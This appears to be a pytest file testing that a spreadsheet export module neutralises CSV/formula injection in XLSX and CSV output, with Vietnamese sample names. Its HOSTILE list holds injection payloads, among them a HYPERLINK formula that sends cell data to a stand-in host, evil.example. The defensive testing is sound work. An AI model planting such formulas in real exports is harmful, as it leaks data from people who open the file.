"""Text that lands in a spreadsheet cell never runs as a formula (CSV injection, OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from shared.spreadsheet import cell_text, csv_row, write_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
]


def read_back(path: Path) -> list[list]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_is_written_as_text_and_reads_back_whole(tmp_path, text):
    # Given a name a user typed, written into an XLSX export through the rule
    path = tmp_path / "export.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        write_row(book.add_worksheet(), 0, ["Công đoàn cơ sở A", text, 120])
    # Then the cell holds the text itself (with its apostrophe), not a formula's result
    [[name, cell, members]] = read_back(path)
    assert name == "Công đoàn cơ sở A" and members == 120
    assert cell == "'" + text


def test_without_the_rule_the_same_text_becomes_a_formula(tmp_path):
    # The hazard the rule exists for: xlsxwriter's plain write() makes it a formula.
    path = tmp_path / "raw.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        book.add_worksheet().write(0, 0, "=1+2")
    assert read_back(path) != [["=1+2"]] and read_back(path) != [["'=1+2"]]


@pytest.mark.parametrize("text", ["Nguyễn Văn A", "Sáng kiến 2024", "a=b", " =1", "100%", ""])
def test_ordinary_text_is_left_as_it_is(text):
    assert cell_text(text) == text


def test_csv_rows_neutralise_text_and_keep_numbers():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row(["=1+2", -5, "-5 người", None]))
    assert out.getvalue() == "'=1+2,-5,'-5 người,\r\n"
